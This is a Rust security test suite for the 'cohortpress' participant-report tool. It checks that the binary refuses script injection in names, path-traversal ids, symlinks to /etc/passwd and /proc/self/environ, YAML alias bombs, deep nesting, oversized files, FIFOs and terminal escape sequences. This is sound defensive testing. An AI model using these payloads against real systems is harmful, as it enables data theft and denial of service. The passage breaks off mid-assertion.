//! Hostile input through the real binary: names that try to inject HTML, ids and folders that
//! try to escape the output folder, YAML alias bombs and deep nesting, oversized files, and an
//! external module that hangs or looks for the host's environment. Then a bounded property
//! test over the CSV and YAML readers.

use crate::harness::{ProgramTest, fixture, tree_hashes};
use std::path::Path;
use std::process::Command;

const AS_OF: &str = "2026-12-01";
const BIN: &str = env!("CARGO_BIN_EXE_cohortpress");

fn out(t: &ProgramTest) -> String {
    t.dir
        .parent()
        .unwrap()
        .join("out")
        .to_string_lossy()
        .into_owned()
}

/// Replaces the `name:` line of a participant's profile.
fn set_profile_line(t: &ProgramTest, id: &str, key: &str, line: &str) {
    let p = t.dir.join(format!("participants/{id}/profile.yaml"));
    let text = std::fs::read_to_string(&p).unwrap();
    let new: Vec<String> = text
        .lines()
        .map(|l| {
            if l.starts_with(&format!("{key}:")) {
                line.to_string()
            } else {
                l.to_string()
            }
        })
        .collect();
    std::fs::write(&p, new.join("\n") + "\n").unwrap();
}

#[test]
fn names_cannot_inject_html_and_ids_cannot_escape_the_output_folder() {
    let t = ProgramTest::demo(4);
    set_profile_line(&t, "SG-001", "name", "name: \"<script>alert(1)</script>\"");
    // A profile whose id tries to climb out of the output folder.
    set_profile_line(&t, "SG-002", "id", "id: ../x");
    // A folder whose name is not a plain id (dots, a space) and a link to a folder elsewhere.
    let sneaky = t.dir.join("participants/x..y z");
    std::fs::create_dir(&sneaky).unwrap();
    std::fs::copy(
        t.dir.join("participants/SG-003/profile.yaml"),
        sneaky.join("profile.yaml"),
    )
    .unwrap();
    std::os::unix::fs::symlink(
        t.dir.join("participants/SG-004"),
        t.dir.join("participants/SG-LINK"),
    )
    .unwrap();
    let inputs_before = tree_hashes(&t.dir);
    let o = out(&t);
    let r = t.run(&["run", "{dir}", "--as-of", AS_OF, "--out", &o]);
    assert_eq!(
        r.code,
        cohortpress::exit_code::PARTICIPANT_ERRORS,
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains("not a usable participant id"),
        "{}",
        r.stderr
    );
    let quality = std::fs::read_to_string(Path::new(&o).join("metrics/data-quality.csv")).unwrap();
    assert!(
        quality.contains(
            "error,SG-LINK,participants/SG-LINK,,,,\"the participant folder is a symbolic link; links are not followed"
        ),
        "{quality}"
    );
    // Hostile folders and names still give tidy files that are what their descriptor says.
    let problems = crate::datapackage::check_package(&Path::new(&o).join("metrics"));
    assert!(problems.is_empty(), "{problems:#?}");

    // The name is shown as text, never as markup.
    let html = std::fs::read_to_string(Path::new(&o).join("participants/SG-001.html")).unwrap();
    assert!(
        html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "name not escaped"
    );
    assert!(!html.contains("<script>alert(1)"), "markup injected");
    assert!(Path::new(&o).join("participants/SG-001.pdf").exists());
    // Group reports never carry names.
    let group = std::fs::read_to_string(Path::new(&o).join("group/program.html")).unwrap();
    assert!(!group.contains("alert(1)"));

    // Every output is a plain path inside the output folder; nothing was written elsewhere.
    for (path, _) in tree_hashes(Path::new(&o)) {
        assert!(
            path.split('/').all(|c| !c.is_empty()
                && c != ".."
                && c.chars()
                    .all(|ch| ch.is_ascii_alphanumeric() || "-_.".contains(ch))),
            "{path}"
        );
        assert!(
            !path.contains("SG-002") || path.contains("cache/"),
            "{path}"
        );
        assert!(!path.contains("LINK") && !path.contains("..y"), "{path}");
    }
    let parent: Vec<String> = std::fs::read_dir(t.dir.parent().unwrap())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    let mut parent = parent;
    parent.sort();
    // Beside the program: the output and its lock. The group report's publication ledger is
    // the program's own, beside `report.out` in the program folder, whatever `--out` says.
    assert_eq!(parent, [".out.lock", "out", "program"]);
    assert!(t.dir.join("reports.ledger/ledger.json").is_file());
    let inputs_after: Vec<_> = tree_hashes(&t.dir)
        .into_iter()
        .filter(|(p, _)| !p.starts_with("reports.ledger/"))
        .collect();
    assert_eq!(inputs_after, inputs_before, "inputs are never written");
}

/// "Billion laughs": nine levels of nine-fold aliases (9^9 leaves once expanded), as a block
/// mapping indented by `indent` spaces.
fn alias_bomb(indent: usize) -> String {
    let pad = " ".repeat(indent);
    let lols = ["\"lol\""; 9].join(",");
    let mut text = format!("{pad}a: &a [{lols}]\n");
    let names = ["a", "b", "c", "d", "e", "f", "g", "h", "i"];
    for w in names.windows(2) {
        let refs = vec![format!("*{}", w[0]); 9].join(",");
        text.push_str(&format!("{pad}{n}: &{n} [{refs}]\n", n = w[1]));
    }
    text
}

/// `[[[…]]]`, `depth` levels.
fn deep(depth: usize) -> String {
    format!("{}{}", "[".repeat(depth), "]".repeat(depth))
}

/// Replaces a profile's `height:` line (a value the loader reads as free YAML) by `block`.
fn set_height(t: &ProgramTest, id: &str, block: &str) {
    let p = t.dir.join(format!("participants/{id}/profile.yaml"));
    let text = std::fs::read_to_string(&p).unwrap();
    let new: String = text
        .lines()
        .map(|l| {
            if l.starts_with("height:") {
                format!("height:{block}\n")
            } else {
                format!("{l}\n")
            }
        })
        .collect();
    std::fs::write(&p, new).unwrap();
}

#[test]
fn yaml_alias_bombs_and_deep_nesting_are_refused() {
    let t = ProgramTest::demo(3);
    set_height(&t, "SG-001", &format!("\n{}", alias_bomb(2)));
    set_height(&t, "SG-002", &format!(" {}", deep(50_000)));
    let o = out(&t);
    let r = t.run(&[
        "run",
        "{dir}",
        "--as-of",
        AS_OF,
        "--out",
        &o,
        "--formats",
        "html",
    ]);
    assert_eq!(
        r.code,
        cohortpress::exit_code::PARTICIPANT_ERRORS,
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains("participants/SG-001/profile.yaml:")
            && r.stderr
                .contains("aliases (`*name`) expand the file to more than"),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains("participants/SG-002/profile.yaml:")
            && r.stderr.contains("nested more than 32 levels deep"),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains("1 participants reported, 2 with errors"),
        "{}",
        r.stderr
    );

    // In program.yaml (a module's free-form `with:` settings) they stop the run before
    // anything is computed.
    let program = std::fs::read_to_string(t.dir.join("program.yaml")).unwrap();
    assert!(program.contains("  - id: trend"));
    let with_bomb = program.replacen(
        "  - id: trend",
        &format!("  - id: trend\n    with:\n{}", alias_bomb(6)),
        1,
    );
    std::fs::write(t.dir.join("program.yaml"), with_bomb).unwrap();
    let r = t.run(&["run", "{dir}", "--as-of", AS_OF, "--out", &o]);
    assert_eq!(
        r.code,
        cohortpress::exit_code::PROGRAM_INVALID,
        "{}",
        r.stderr
    );
    assert!(
        r.stderr
            .contains("aliases (`*name`) expand the file to more than"),
        "{}",
        r.stderr
    );
    let with_deep = program.replacen(
        "  - id: trend",
        &format!("  - id: trend\n    with: {}", deep(50_000)),
        1,
    );
    std::fs::write(t.dir.join("program.yaml"), with_deep).unwrap();
    let r = t.run(&["run", "{dir}", "--as-of", AS_OF, "--out", &o]);
    assert_eq!(
        r.code,
        cohortpress::exit_code::PROGRAM_INVALID,
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains("nested more than 32 levels deep"),
        "{}",
        r.stderr
    );
}

#[test]
fn oversized_files_are_refused_before_reading() {
    use cohortpress::limits::{MAX_CSV_BYTES, MAX_YAML_BYTES};
    let t = ProgramTest::demo(3);
    // Sparse files: their size is over the limit without the test writing 64 MiB.
    let big_csv = std::fs::File::options()
        .append(true)
        .open(t.dir.join("participants/SG-001/weights.csv"))
        .unwrap();
    big_csv.set_len(MAX_CSV_BYTES + 1).unwrap();
    let big_yaml = std::fs::File::options()
        .append(true)
        .open(t.dir.join("participants/SG-002/profile.yaml"))
        .unwrap();
    big_yaml.set_len(MAX_YAML_BYTES + 1).unwrap();
    let o = out(&t);
    let r = t.run(&[
        "run",
        "{dir}",
        "--as-of",
        AS_OF,
        "--out",
        &o,
        "--formats",
        "html",
    ]);
    assert_eq!(
        r.code,
        cohortpress::exit_code::PARTICIPANT_ERRORS,
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains(&format!(
            "participants/SG-001/weights.csv: cannot read the file (the file is 64.0 MiB ({} bytes), larger than the limit of 64 MiB",
            MAX_CSV_BYTES + 1
        )),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr
            .contains("participants/SG-002/profile.yaml: cannot read the file")
            && r.stderr.contains("larger than the limit of 1 MiB"),
        "{}",
        r.stderr
    );
    // The third participant is reported as usual.
    assert!(Path::new(&o).join("participants/SG-003.html").exists());

    let big_program = std::fs::File::options()
        .append(true)
        .open(t.dir.join("program.yaml"))
        .unwrap();
    big_program.set_len(MAX_YAML_BYTES + 1).unwrap();
    let r = t.run(&["run", "{dir}", "--as-of", AS_OF, "--out", &o]);
    assert_eq!(
        r.code,
        cohortpress::exit_code::PROGRAM_INVALID,
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains("program.yaml") && r.stderr.contains("larger than the limit of 1 MiB"),
        "{}",
        r.stderr
    );
}

/// Runs the binary on `t` with a scrubbed environment plus `env`, under a virtual-memory
/// ceiling of `ceiling_mib` MiB (`ulimit -v` through `sh`) when given.
fn run_bin(
    t: &ProgramTest,
    args: &[&str],
    env: &[(&str, &str)],
    ceiling_mib: Option<u64>,
) -> crate::harness::Outcome {
    let mut cmd = match ceiling_mib {
        Some(m) => {
            let mut c = Command::new("sh");
            c.arg("-c")
                .arg(format!("ulimit -v {} && exec \"$0\" \"$@\"", m * 1024))
                .arg(BIN);
            c
        }
        None => Command::new(BIN),
    };
    let args: Vec<String> = args
        .iter()
        .map(|a| a.replace("{dir}", &t.dir.to_string_lossy()))
        .collect();
    cmd.args(&args)
        .current_dir(&t.dir)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("HOME", t.dir.parent().unwrap());
    for (k, v) in env {
        cmd.env(k, v);
    }
    let out = cmd.output().unwrap();
    crate::harness::Outcome {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

/// Every regular file under `dir` (not following links) whose bytes contain `needle`.
fn files_containing(dir: &Path, needle: &[u8]) -> Vec<String> {
    let mut hits = Vec::new();
    for entry in walkdir::WalkDir::new(dir).follow_links(false) {
        let entry = entry.unwrap();
        if entry.file_type().is_file() {
            let bytes = std::fs::read(entry.path()).unwrap();
            if bytes.windows(needle.len()).any(|w| w == needle) {
                hits.push(entry.path().display().to_string());
            }
        }
    }
    hits
}

#[test]
fn links_and_special_files_are_never_read() {
    let t = ProgramTest::demo(5);
    let p = |rel: &str| t.dir.join("participants").join(rel);
    // A unique value in the environment: no byte of it may reach any output, log or cache.
    let secret = format!("cp-secret-{}", std::process::id());
    std::fs::remove_file(p("SG-001/activity.csv")).unwrap();
    std::os::unix::fs::symlink("/proc/self/environ", p("SG-001/activity.csv")).unwrap();
    std::fs::remove_file(p("SG-002/weights.csv")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", p("SG-002/weights.csv")).unwrap();
    // Another participant's weigh-ins, through a relative link.
    let other = std::fs::read_to_string(p("SG-004/weights.csv")).unwrap();
    let other_row = other.lines().nth(5).unwrap().to_string();
    std::fs::remove_file(p("SG-003/weights.csv")).unwrap();
    std::os::unix::fs::symlink("../SG-004/weights.csv", p("SG-003/weights.csv")).unwrap();
    // A FIFO where a file is expected: refused at once, never waited on.
    std::fs::remove_file(p("SG-005/intake.csv")).unwrap();
    assert!(
        Command::new("mkfifo")
            .arg(p("SG-005/intake.csv"))
            .status()
            .unwrap()
            .success()
    );
    // A participant folder that is a link to another participant's folder.
    std::os::unix::fs::symlink("SG-004", p("SG-006")).unwrap();
    let o = out(&t);
    let r = run_bin(
        &t,
        &[
            "run",
            "{dir}",
            "--as-of",
            AS_OF,
            "--out",
            &o,
            "--formats",
            "html",
        ],
        &[("COHORTPRESS_LEAK_CHECK", &secret)],
        None,
    );
    assert_eq!(
        r.code,
        cohortpress::exit_code::PARTICIPANT_ERRORS,
        "{}",
        r.stderr
    );
    for (file, what) in [
        ("SG-001/activity.csv", "symbolic link"),
        ("SG-002/weights.csv", "symbolic link"),
        ("SG-003/weights.csv", "symbolic link"),
        (
            "SG-005/intake.csv",
            "a FIFO (named pipe), not a regular file",
        ),
    ] {
        assert!(
            r.stderr
                .contains(&format!("participants/{file}: cannot read the file: it is"))
                && r.stderr.contains(what),
            "{file}: {}",
            r.stderr
        );
    }
    assert!(
        r.stderr.contains(
            "participants/SG-006: the participant folder is a symbolic link; links are not followed"
        ),
        "{}",
        r.stderr
    );
    // A refused file costs that file only: SG-001 to SG-005 are reported (without the refused
    // files); the linked folder SG-006 is not. Nobody has a report with another's data.
    assert!(r.stderr.contains("5 participants reported"), "{}", r.stderr);
    let reports: Vec<String> = std::fs::read_dir(Path::new(&o).join("participants"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    let mut reports = reports;
    reports.sort();
    assert_eq!(
        reports,
        [
            "SG-001.html",
            "SG-002.html",
            "SG-003.html",
            "SG-004.html",
            "SG-005.html"
        ]
    );
    let scratch = t.dir.parent().unwrap();
    assert_eq!(
        files_containing(scratch, secret.as_bytes()),
        Vec::<String>::new()
    );
    assert_eq!(files_containing(scratch, b"root:"), Vec::<String>::new());
    // SG-004's own rows appear only in its own file (and nowhere under SG-003's name).
    let hits = files_containing(scratch, other_row.as_bytes());
    assert!(
        hits.iter()
            .all(|h| h.ends_with("participants/SG-004/weights.csv")),
        "{hits:?}"
    );
    assert!(!r.stderr.contains(&secret) && !r.stdout.contains(&secret));

    // `participants/` itself may be a link (e.g. to a mounted share); links inside it are
    // still refused.
    let moved = scratch.join("share");
    std::fs::rename(t.dir.join("participants"), &moved).unwrap();
    std::os::unix::fs::symlink(&moved, t.dir.join("participants")).unwrap();
    let r = run_bin(&t, &["check", "{dir}", "--as-of", AS_OF], &[], None);
    assert_eq!(
        r.code,
        cohortpress::exit_code::PARTICIPANT_ERRORS,
        "{}",
        r.stderr
    );
    let shown = format!("{}{}", r.stdout, r.stderr);
    assert!(
        shown.contains(
            "participants/SG-002/weights.csv: cannot read the file: it is a symbolic link"
        ),
        "{shown}"
    );

    // program.yaml as a link is refused too: nothing is computed.
    std::fs::rename(t.dir.join("program.yaml"), scratch.join("program.yaml")).unwrap();
    std::os::unix::fs::symlink(scratch.join("program.yaml"), t.dir.join("program.yaml")).unwrap();
    let r = run_bin(&t, &["check", "{dir}", "--as-of", AS_OF], &[], None);
    assert_eq!(
        r.code,
        cohortpress::exit_code::PROGRAM_INVALID,
        "{}",
        r.stderr
    );
    let shown = format!("{}{}", r.stdout, r.stderr);
    assert!(
        shown.contains("program.yaml: cannot read the program file: it is a symbolic link"),
        "{shown}"
    );
}

/// Ceiling on the virtual memory of a run over hostile files. A clean run of a few
/// participants stays well under it; before the budgets the same files needed 4–10 GB.
const HOSTILE_CEILING_MIB: u64 = 1024;

#[test]
fn hostile_files_are_refused_within_a_memory_ceiling_and_the_others_are_reported() {
    use std::fmt::Write;
    let t = ProgramTest::demo(6);
    let p = |rel: &str| t.dir.join("participants").join(rel);
    // One large anchor and 20,000 aliases to it.
    let profile = std::fs::read_to_string(p("SG-001/profile.yaml")).unwrap();
    let mut bomb = String::from("groups:\n  site: &a [");
    for i in 0..25_000 {
        write!(bomb, "v{i},").unwrap();
    }
    bomb.push_str("end]\n  team: [");
    bomb.push_str(&["*a"; 20_000].join(", "));
    bomb.push_str("]\n");
    let profile: String = profile
        .lines()
        .filter(|l| !l.starts_with("groups:"))
        .map(|l| format!("{l}\n"))
        .collect::<String>()
        + &bomb;
    std::fs::write(p("SG-001/profile.yaml"), profile).unwrap();
    // 100,000 levels of nesting.
    set_height(&t, "SG-002", &format!(" {}", deep(100_000)));
    // A million rows (about 19 MB).
    let mut rows = String::from("date,weight,unit\n");
    for i in 0..1_000_000u32 {
        writeln!(
            rows,
            "2026-{:02}-{:02},{}.5,kg",
            4 + i % 6,
            1 + i % 28,
            60 + i % 30
        )
        .unwrap();
    }
    std::fs::write(p("SG-003/weights.csv"), rows).unwrap();
    // A header of 2 million columns.
    let mut wide = String::from("date,activity,minutes");
    for _ in 0..2_000_000 {
        wide.push_str(",c");
    }
    wide.push_str("\n2026-04-02,walking,30\n");
    std::fs::write(p("SG-004/activity.csv"), wide).unwrap();
    let o = out(&t);
    let r = run_bin(
        &t,
        &[
            "run",
            "{dir}",
            "--as-of",
            AS_OF,
            "--out",
            &o,
            "--formats",
            "html",
        ],
        &[],
        Some(HOSTILE_CEILING_MIB),
    );
    assert_eq!(
        r.code,
        cohortpress::exit_code::PARTICIPANT_ERRORS,
        "{}",
        r.stderr
    );
    for expected in [
        "participants/SG-001/profile.yaml:",
        "aliases (`*name`) expand the file to more than 200000 values",
        "participants/SG-002/profile.yaml:",
        "lists and mappings are nested more than 32 levels deep",
        "participants/SG-003/weights.csv:50002:1: the file has more than 50000 rows",
        "found: row 50001 starting here",
        "participants/SG-004/activity.csv:1: the header has 2000003 columns, more than the limit of 256",
        // The oversized CSV files cost those files only; the profiles cost the participants.
        "4 participants reported, 4 with errors",
    ] {
        assert!(r.stderr.contains(expected), "{expected}: {}", r.stderr);
    }
    for id in ["SG-003", "SG-004", "SG-005", "SG-006"] {
        assert!(
            Path::new(&o)
                .join(format!("participants/{id}.html"))
                .exists()
        );
    }
    // No output (reports, metrics, cache, log) grew with the hostile files.
    for entry in walkdir::WalkDir::new(&o) {
        let entry = entry.unwrap();
        let len = entry.metadata().unwrap().len();
        assert!(
            len < 2 * 1024 * 1024,
            "{}: {len} bytes",
            entry.path().display()
        );
    }
}

#[test]
fn control_characters_and_bad_overrides_are_shown_safely_by_check() {
    let t = ProgramTest::demo(2);
    let p = |rel: &str| t.dir.join("participants").join(rel);
    // ESC sequences (clear screen, set title), NUL, a C1 control and a bidi override in values.
    let weights = std::fs::read_to_string(p("SG-001/weights.csv")).unwrap();
    let weights = weights.replacen(
        "\n2026-04-03,",
        "\n2026-04-03,\u{1b}[2J\u{1b}]0;owned\u{7}7\u{0}2\u{9b}\u{202e}",
        1,
    );
    assert!(weights.contains('\u{1b}'));
    std::fs::write(p("SG-001/weights.csv"), weights).unwrap();
    set_profile_line(
        &t,
        "SG-002",
        "enrolled",
        "enrolled: 2026-04-01\ntargets:\n  weight_change_percent: -846.9\n  weigh_ins_per_week: .nan",
    );
    let r = run_bin(&t, &["check", "{dir}", "--as-of", AS_OF], &[], None);
    assert_eq!(
        r.code,
        cohortpress::exit_code::PARTICIPANT_ERRORS,
        "{}",
        r.stderr
    );
    let shown = format!("{}{}", r.stdout, r.stderr);
    assert!(
        !shown
            .chars()
            .any(|c| (c.is_control() && c != '\n') || c == '\u{202e}'),
        "{shown:?}"
    );
    assert!(
        shown.contains("found: `\\u{1b}[2J\\u{1b}]0;owned\\u{7}7\\u{0}2\\u{9b}\\u{202e}"),
        "{shown}"
    );
    let line = |needle: &str| {
        let profile = std::fs::read_to_string(p("SG-002/profile.yaml")).unwrap();
        profile.lines().position(|l| l.contains(needle)).unwrap() + 1
    };
    assert!(
        shown.contains(&format!(
            "participants/SG-002/profile.yaml:{}:26: target out of range: -846.9",
            line("-846.9")
        )),
        "{shown}"
    );
    assert!(
        shown.contains(&format!(
            "participants/SG-002/profile.yaml:{}:23: target out of range: NaN",
            line(".nan")
        )),
        "{shown}"
    );
    assert!(
        shown.contains("expected: a number from -50 to 50; found: -846.9"),
        "{shown}"
    );
}

/// The external-program fixture with the fake module as `peek` (environment report) and as
/// `slow` (hangs for XP-02).
#[test]
fn external_modules_get_a_minimal_environment_and_are_stopped_at_their_timeout() {
    let t = ProgramTest::fixture("external-program");
    std::fs::create_dir_all(t.dir.join("plugins")).unwrap();
    std::fs::copy(
        fixture("fake-plugins/fake.py"),
        t.dir.join("plugins/fake.py"),
    )
    .unwrap();
    std::fs::write(
        t.dir.join("program.yaml"),
        "format_version: 1\n\
         program: {id: ext-fixture, title: Fixture, start: 2027-03-01, end: 2027-05-31}\n\
         modules:\n  \
           - id: peek\n    command: [plugins/fake.py, peek, env]\n  \
           - id: slow\n    command: [plugins/fake.py, slow, sleep, XP-02]\n    timeout_seconds: 2\n",
    )
    .unwrap();
    let o = t.dir.parent().unwrap().join("out");
    let r = Command::new(BIN)
        .args([
            "run",
            t.dir.to_str().unwrap(),
            "--period",
            "2027-03",
            "--as-of",
            "2027-04-05",
        ])
        .args(["--formats", "html", "--out", o.to_str().unwrap()])
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("HOME", t.dir.parent().unwrap())
        .env("COHORTPRESS_TEST_SECRET", "do-not-pass-on")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&r.stderr);
    assert_eq!(
        r.status.code(),
        Some(cohortpress::exit_code::MODULE_FAILED),
        "{stderr}"
    );
    assert!(
        stderr.contains(
            "XP-02: module slow failed: external module: did not finish within 2 s and was stopped"
        ),
        "{stderr}"
    );
    let mut reader = csv::Reader::from_path(o.join("metrics/participants.csv")).unwrap();
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    for row in &rows {
        let names: Vec<&str> = row[col("peek.env_names")].split(',').collect();
        assert!(!names.contains(&"COHORTPRESS_TEST_SECRET"), "{names:?}");
        assert!(names.contains(&"PATH"), "{names:?}");
        // The module never gets the participant's name.
        assert_eq!(&row[col("peek.has_name")], "0");
    }
    // XP-01 was not held up by XP-02's module: slow answered for XP-01.
    let xp01 = rows.iter().find(|r| &r[0] == "XP-01").unwrap();
    assert_eq!(&xp01[col("slow.weigh_ins")], "5");
}

mod readers {
    //! Property test: the CSV and YAML readers never panic on arbitrary input, and every
    //! diagnostic they give names its file, and every error a line. Bounded by a fixed number
    //! of cases so it runs in CI in bounded time.

    use cohortpress::diag::{Diagnostic, Severity};
    use cohortpress::participant::records::{self, Window};
    use cohortpress::participant::table::{CsvOptions, FileCtx};
    use proptest::prelude::*;

    /// Lines that look like the real files, mutated: numbers, dates, units, quotes, delimiters,
    /// control and non-ASCII characters.
    fn csv_text() -> impl Strategy<Value = String> {
        let header = prop::sample::select(vec![
            "date,weight,unit,source",
            "date,weight,unit",
            "date,kcal,protein_g,carbs_g,fat_g",
            "date,activity,minutes,intensity",
            "date,attended",
            "date,test,value,unit",
            "",
            "date;weight;unit",
        ]);
        let cell = prop_oneof![
            "[0-9]{1,4}(\\.[0-9]{1,3})?",
            "20[0-9]{2}-[01][0-9]-[0-3][0-9]",
            prop::sample::select(vec![
                "kg", "lb", "st", "yes", "no", "walking", "\"", "\"\"", ",", "-1", "1e308", "NaN",
                "inf", "ä", "\u{0}", "\r"
            ])
            .prop_map(String::from),
            "\\PC{0,8}",
        ];
        let row = prop::collection::vec(cell, 0..6).prop_map(|c| c.join(","));
        (header, prop::collection::vec(row, 0..12)).prop_map(|(h, rows)| {
            let mut s = h.to_string();
            for r in rows {
                s.push('\n');
                s.push_str(&r);
            }
            s
        })
    }

    fn check(diags: &[Diagnostic], file: &str) {
        for d in diags {
            assert_eq!(d.file, file, "{d}");
            if d.severity == Severity::Error && !d.message.contains("more than one document") {
                assert!(d.line.is_some(), "an error without a line: {d}");
            }
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 256, failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn csv_readers_never_panic_and_locate_every_error(text in csv_text()) {
            let opts = CsvOptions::default();
            let w = Window {
                enrolled: chrono::NaiveDate::from_ymd_opt(2026, 4, 1),
                withdrew: None,
                follow_up_weigh_ins: false,
                as_of: chrono::NaiveDate::from_ymd_opt(2026, 12, 1).unwrap(),
                reported_from: None,
                height_cm: None,
                high_bmi_checked: false,
                low_bmi_checked: false,
            };
            let file = "participants/P-1/x.csv";
            let ctx = FileCtx::new("P-1", file);
            let mut d = Vec::new();
            let _ = records::parse_weights(&text, &opts, &ctx, &w, &mut d);
            let _ = records::parse_intake(&text, &opts, &ctx, &w, &mut d);
            let _ = records::parse_activity(&text, &opts, &ctx, &w, &mut d);
            let _ = records::parse_sessions(&text, &opts, &ctx, &w, &mut d);
            let _ = records::parse_labs(&text, &opts, &ctx, &w, &mut d);
            check(&d, file);
        }

        #[test]
        fn yaml_reader_never_panics_and_locates_every_error(
            text in prop_oneof![
                "\\PC{0,200}",
                "(id: [A-Z0-9-]{0,8}\n|name: \"[^\"]{0,10}\"\n|height: [0-9]{1,3} (cm|in)\n|enrolled: 2026-0[1-9]-[0-3][0-9]\n|groups: \\{ site: [a-z]{0,5} \\}\n|  - \\*a\n|a: &a \\[1\\]\n|[\\[\\{\\]\\}:,&*!|>-]{1,6}\n){0,12}",
            ]
        ) {
            let file = "participants/P-1/profile.yaml";
            if let Err(d) = cohortpress::yaml::value_from_str(&text, file) {
                assert_eq!(d.file, file);
                // serde_yaml 0.9 gives no position for a second document (`---`); that one
                // error names the file and the fix only.
                if !d.message.contains("more than one document") {
                    assert!(d.line.is_some(), "a YAML error without a line: {d}");
                }
            }
            let ctx = FileCtx::new("P-1", file);
            let mut d = Vec::new();
            let _ = cohortpress::participant::profile::parse_profile(
                &text,
                "P-1",
                &Default::default(),
                chrono::NaiveDate::MAX,
                &ctx,
                &mut d,
            );
            check(&d, file);
        }
    }
}

#[test]
fn demo_program_never_replaces_a_program_made_real_or_a_foreign_folder() {
    let demo_at = |dir: &Path| {
        Command::new(BIN)
            .args(["demo-program", dir.to_str().unwrap(), "--no-defects"])
            .args(["--participants", "2"])
            .output()
            .unwrap()
    };
    // A program started from the demo and made real: its title edited, a real participant
    // added. Generating the demo again by mistake keeps every file.
    let t = ProgramTest::demo(2);
    let yaml = std::fs::read_to_string(t.dir.join("program.yaml")).unwrap();
    let yaml = yaml.replace("title: Steady Ground 2026", "title: Our Pilot");
    std::fs::write(t.dir.join("program.yaml"), yaml).unwrap();
    let real = t.dir.join("participants/LW-0147");
    std::fs::create_dir(&real).unwrap();
    std::fs::write(
        real.join("weights.csv"),
        "date,weight,unit\n2026-04-02,81.0,kg\n",
    )
    .unwrap();
    let before = tree_hashes(&t.dir);
    let o = demo_at(&t.dir);
    assert_eq!(o.status.code(), Some(2), "{o:?}");
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("edited"),
        "{o:?}"
    );
    assert_eq!(tree_hashes(&t.dir), before);

    // A folder of someone else's: refused with the command-line code, untouched.
    let docs = t.dir.parent().unwrap().join("docs");
    std::fs::create_dir(&docs).unwrap();
    std::fs::write(docs.join("notes.txt"), "mine").unwrap();
    let o = demo_at(&docs);
    assert_eq!(o.status.code(), Some(2), "{o:?}");
    assert_eq!(
        std::fs::read_to_string(docs.join("notes.txt")).unwrap(),
        "mine"
    );

    // An unedited demo is still regenerated in place.
    let fresh = t.dir.parent().unwrap().join("fresh");
    assert!(demo_at(&fresh).status.success());
    let o = demo_at(&fresh);
    assert!(o.status.success(), "{o:?}");
}

#[test]
fn control_characters_from_input_never_reach_a_csv_output_raw() {
    // A terminal escape (ESC ] … BEL retitles the window) and a right-to-left override in a
    // dropped row: the row's text is quoted in metrics/data-quality.csv, which an
    // administrator may well `cat`.
    let t = ProgramTest::demo(2);
    let act = t.dir.join("participants/SG-001/activity.csv");
    let mut text = std::fs::read_to_string(&act).unwrap();
    // (One field too many: a row that only leaves off trailing values is read.)
    text.push_str("2026-09-05,\u{1b}]0;pwned\u{7}walk\u{202e},10,3,,x\n");
    std::fs::write(&act, text).unwrap();
    let o = t.run(&[
        "run",
        "{dir}",
        "--as-of",
        AS_OF,
        "--formats",
        "html",
        "--out",
        &out(&t),
    ]);
    assert_eq!(o.code, 1, "{o:?}");
    let dq = std::fs::read_to_string(Path::new(&out(&t)).join("metrics/data-quality.csv")).unwrap();
    assert!(dq.contains("pwned"), "the dropped row is reported: {dq}");
    assert!(dq.contains("\\u{1b}]0;pwned\\u{7}walk\\u{202e}"), "{dq}");
    for entry in std::fs::read_dir(Path::new(&out(&t)).join("metrics")).unwrap() {
        let p = entry.unwrap().path();
        if p.extension().is_some_and(|e| e == "csv") {
            let bytes = std::fs::read(&p).unwrap();
            assert!(
                !bytes.iter().any(|&b| b == 0x1b || b == 0x07),
                "{} holds a raw control character",
                p.display()
            );
        }
    }
}

/// `templates dump DIR` writes inside DIR only: a link already in DIR where a template would go
/// (even a link to nothing, whose target would be created) is left as it is and reported as
/// skipped, and a `partials` that is a link to another folder is an error (exit 6) with
/// nothing written through it.
#[cfg(unix)]
#[test]
fn templates_dump_never_writes_through_a_link() {
    let t = ProgramTest::fixture("report-small");
    let base = t.dir.parent().unwrap();
    let elsewhere = base.join("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    let dump = base.join("dump");
    std::fs::create_dir(&dump).unwrap();
    std::os::unix::fs::symlink(elsewhere.join("planted.txt"), dump.join("group.html.hbs")).unwrap();
    let o = run_bin(
        &t,
        &["templates", "dump", &dump.to_string_lossy()],
        &[],
        None,
    );
    assert_eq!(o.code, 0, "{o:?}");
    assert!(
        o.stderr.contains("group.html.hbs (exists, or is a link)"),
        "{o:?}"
    );
    assert!(dump.join("participant.html.hbs").is_file());
    assert!(dump.join("partials/style.hbs").is_file());
    assert!(
        !elsewhere.join("planted.txt").exists(),
        "written through a dangling link"
    );

    let dump = base.join("dump2");
    std::fs::create_dir(&dump).unwrap();
    std::os::unix::fs::symlink(&elsewhere, dump.join("partials")).unwrap();
    let o = run_bin(
        &t,
        &["templates", "dump", &dump.to_string_lossy()],
        &[],
        None,
    );
    assert_eq!(o.code, cohortpress::exit_code::OUTPUT_FAILED, "{o:?}");
    assert!(o.stderr.contains("partials: is a link"), "{o:?}");
    assert_eq!(
